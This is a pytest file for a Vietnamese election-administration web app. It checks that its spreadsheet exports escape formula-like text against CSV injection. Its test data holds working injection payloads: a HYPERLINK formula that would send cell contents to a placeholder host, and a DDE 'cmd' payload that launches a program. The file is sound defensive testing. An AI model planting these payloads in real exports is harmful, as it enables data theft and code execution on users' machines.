"""Every XLSX and CSV export goes through core.spreadsheets' writer: texts that start like a formula are escaped
(OWASP CSV injection), cells are typed (numbers, percentages, dates), and files are named after what and when."""
from __future__ import annotations

import csv
import io
from datetime import date
from types import SimpleNamespace

import pytest
from factories_ballots import csv_bytes as roll_csv, import_through_pages, roll_rows
from factories_counting import client_for, enter_twice, figures
from openpyxl import load_workbook

from core.accounts import Role
from core.models import Person
from core.spreadsheets import XLSX_MIMETYPE, SheetSpec, csv_bytes, export_filename, workbook_bytes
from core.vietnamese import vietnam_today
from election.models import VoterEntry
from extensions import db

DANGEROUS = ['=HYPERLINK("http://x?d="&B3,"bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "=1+1"]
UNSAFE_START = ("=", "+", "-", "@", "\t", "\r")


def workbook_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def csv_fields(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf")
    return [field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for field in row]


def assert_no_formula(cells) -> None:
    """No formula cell and no text a spreadsheet would read as one."""
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(UNSAFE_START), (cell.coordinate, cell.value)


def assert_no_formula_fields(fields: list[str]) -> None:
    for field in fields:
        assert not field.startswith(UNSAFE_START), field


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_starting_like_a_formula_is_a_quoted_text_cell_in_xlsx(text):
    data = workbook_bytes([SheetSpec("Tên", ["Họ và tên", text], [[text, 1]], caption=text)])
    cells = workbook_cells(data)
    assert_no_formula(cells)
    expected = "'" + text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    escaped = [cell for cell in cells if cell.value == expected]
    assert len(escaped) == 3 and all(cell.data_type == "s" for cell in escaped)  # caption, header, row


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_starting_like_a_formula_is_quoted_in_csv(text):
    fields = csv_fields(csv_bytes(["Họ và tên", text], [[text, -5]]))
    assert fields == ["Họ và tên", "'" + text, "'" + text, "-5"]


def test_numbers_dates_and_harmless_texts_are_written_as_they_are():
    data = workbook_bytes([SheetSpec("Số liệu", ["Xã", "Số hộ", "Chênh lệch", "Tỷ lệ", "Ngày", "Số định danh"],
                                     [["Bình Hải", 120, -3, 0.7667, date(2025, 5, 25), "051070000001"],
                                      ["Bình Châu", 80, 0, None, None, "051070000002"]],
                                     percent_columns=(3,), text_columns=(5,))])
    sheet = load_workbook(io.BytesIO(data)).active
    name, count, change, share, day, citizen = sheet[2]
    assert (name.value, name.data_type) == ("Bình Hải", "s")
    assert (count.value, count.data_type) == (120, "n") and change.value == -3
    assert share.value == 0.7667 and share.number_format == "0.00%"
    assert day.value.date() == date(2025, 5, 25) and day.number_format == "dd/mm/yyyy"
    assert (citizen.value, citizen.data_type) == ("051070000001", "s")
    assert sheet.column_dimensions["F"].number_format == "@"
    assert sheet["D3"].value is None and sheet["E3"].value is None


def test_csv_is_utf8_with_a_bom_and_crlf_with_plain_numbers_and_dates():
    data = csv_bytes(["Xã", "Tỷ lệ", "Ngày"], [["Bình Hải", 0.7667, date(2025, 5, 25)], ["Bình Châu", None, None]])
    assert data == "\ufeffXã,Tỷ lệ,Ngày\r\nBình Hải,0.7667,25/05/2025\r\nBình Châu,,\r\n".encode()


def test_export_file_names_say_what_and_when():
    assert export_filename("ket-qua-bau-truong-thon", "D01", date(2025, 5, 25), "xlsx") == \
        "ket-qua-bau-truong-thon-d01-2025-05-25.xlsx"


# ---------------------------------------------------------------------------------------------------------
# Every export route of the app, with hostile names in the data
# ---------------------------------------------------------------------------------------------------------

HYPERLINK = DANGEROUS[0]
EXPORT_ENDPOINTS = {  # endpoint -> the URLs the walk fetches (filled in from the seeded world)
    "election.board_csv", "election.board_xlsx", "election.roll_template", "election.roll_export",
    "candidates.import_template", "chapters.dashboard_xlsx", "chapters.review_xlsx", "training.export_enrolments",
    "training.export_coverage",
}


def _looks_like_an_export(rule) -> bool:
    return rule.rule.endswith((".xlsx", ".csv")) or ".<" in rule.rule or \
        any(word in rule.endpoint for word in ("export", "xlsx", "csv", "workbook"))


def test_every_export_route_is_walked_below(app):
    assert {rule.endpoint for rule in app.url_map.iter_rules() if _looks_like_an_export(rule)} == EXPORT_ENDPOINTS


@pytest.fixture
def hostile(election, make_commune, make_user, make_person, make_position, make_course, login, client):
    """A district whose communes, hamlets, people, voter roll, candidates, course and positions carry names that a
    spreadsheet would read as formulas; a counted poll with a winner; the users who may export."""
    commune = make_commune("-2+3")
    setup = election(households=100, present=80, names=(HYPERLINK, "+1+1"), commune=commune,
                     hamlet_name="@SUM(A1)")
    enter_twice(setup, figures(setup, 80, 80, 80, 0, 60, 20))
    hamlet, term = setup.hamlet, setup.term
    other = election(households=20, present=None, names=("\tTab đầu",), commune=make_commune(
        "=1+1", district=commune.district), hamlet_name="\rXuống dòng")
    login(setup.committee)
    import_through_pages(client, hamlet, roll_csv(roll_rows(3)))
    client.post("/logout")
    for n, (entry, name) in enumerate(zip(db.session.scalars(db.select(VoterEntry)), DANGEROUS, strict=False)):
        entry.full_name, entry.address, entry.household_no = name, "-Xóm 1", f"+{n}"
    chief = make_person("=cmd|' /C calc'!A0", hamlet=hamlet)
    make_position(chief)
    make_position(make_person("@Trưởng thôn", hamlet=other.hamlet))
    course = make_course(term, sessions=2, posts=["hamlet_chief"], name="=Khóa")
    for person in (chief, *setup.candidates[0:1]):
        course.enrol(person if isinstance(person, Person) else person.person, date(2022, 6, 1))
    db.session.commit()
    office = make_user(Role.DISTRICT_OFFICE, district=commune.district)
    return SimpleNamespace(setup=setup, other=other, course=course, users=[office, setup.committee, other.committee])


def _urls(world) -> dict[str, list[str]]:
    hamlet, commune_id, course_id = world.setup.hamlet, world.setup.hamlet.commune_id, world.course.id
    return {
        "election.board_csv": ["/board.csv", f"/board.csv?commune_id={commune_id}"],
        "election.board_xlsx": ["/board.xlsx", f"/board.xlsx?commune_id={commune_id}"],
        "election.roll_template": ["/roll-template.csv", "/roll-template.xlsx"],
        "election.roll_export": [f"/hamlets/{hamlet.id}/roll.xlsx"],
        "candidates.import_template": [f"/candidates/import/template.xlsx?commune_id={commune_id}"],
        "chapters.dashboard_xlsx": ["/chapters/dashboard.xlsx"],
        "chapters.review_xlsx": ["/chapters/review.xlsx", f"/chapters/review.xlsx?commune_id={commune_id}"],
        "training.export_enrolments": [f"/training/courses/{course_id}/enrolments.xlsx"],
        "training.export_coverage": ["/training/coverage.xlsx", f"/training/coverage.xlsx?commune_id={commune_id}"],
    }


def test_no_export_writes_a_formula_even_from_hostile_names(app, hostile):
    urls = _urls(hostile)
    assert set(urls) == EXPORT_ENDPOINTS
    fetched: dict[str, int] = dict.fromkeys(EXPORT_ENDPOINTS, 0)
    escaped: dict[str, int] = dict.fromkeys(EXPORT_ENDPOINTS, 0)
    for user in hostile.users:
        client = client_for(app, user)
        for endpoint, paths in urls.items():
            for path in paths:
                response = client.get(path)
                if response.status_code in (403, 404):
                    continue  # not this user's export
                assert response.status_code == 200, (user.role, path)
                assert response.headers["Content-Disposition"].startswith("attachment; filename=")
                if response.mimetype == "text/csv":
                    fields = csv_fields(response.data)
                    assert_no_formula_fields(fields)
                    escaped[endpoint] += sum(field.startswith("'") for field in fields)
                else:
                    assert response.mimetype == XLSX_MIMETYPE, path
                    cells = workbook_cells(response.data)
                    assert_no_formula(cells)
                    escaped[endpoint] += sum(isinstance(c.value, str) and c.value.startswith("'") for c in cells)
                fetched[endpoint] += 1
    assert all(fetched.values()), fetched  # every export was fetched by a user allowed to
    # The hostile names did reach every file that lists names, escaped; the templates list none (or, for the
    # candidate template, "Thôn @SUM(A1)": the kind comes first).
    assert {endpoint for endpoint, count in escaped.items() if not count} == \
        {"election.roll_template", "candidates.import_template"}, escaped


def test_export_names_say_district_or_commune_and_day(app, hostile):
    office, committee = hostile.users[0], hostile.users[1]
    commune, district = hostile.setup.hamlet.commune, hostile.setup.hamlet.commune.district
    today = vietnam_today().isoformat()

    def name(user, path: str) -> str:
        return client_for(app, user).get(path).headers["Content-Disposition"]

    assert name(office, "/board.xlsx").endswith(f'filename=ket-qua-bau-truong-thon-{district.code.lower()}-{today}.xlsx')
    assert name(office, f"/board.csv?commune_id={commune.id}").endswith(
        f"filename=ket-qua-bau-truong-thon-{commune.code.lower()}-{today}.csv")
    assert name(committee, "/training/coverage.xlsx").endswith(f"bao-phu-boi-duong-{commune.code.lower()}-{today}.xlsx")
    assert name(office, "/chapters/dashboard.xlsx?as_of=2025-06-30").endswith(
        f"chi-tieu-{district.code.lower()}-2025-06-30.xlsx")


def test_counts_show_a_thousands_separator_and_years_do_not():
    data = workbook_bytes([SheetSpec("Số liệu", ["Xã", "Số hộ", "Năm"], [["Bình Hải", 3412, 1968]],
                                     plain_columns=(2,))])
    _name, households, year = load_workbook(io.BytesIO(data)).active[2]
    assert (households.value, households.number_format) == (3412, "#,##0")  # Excel shows "3.412" in Vietnamese
    assert (year.value, year.number_format) == (1968, "General")
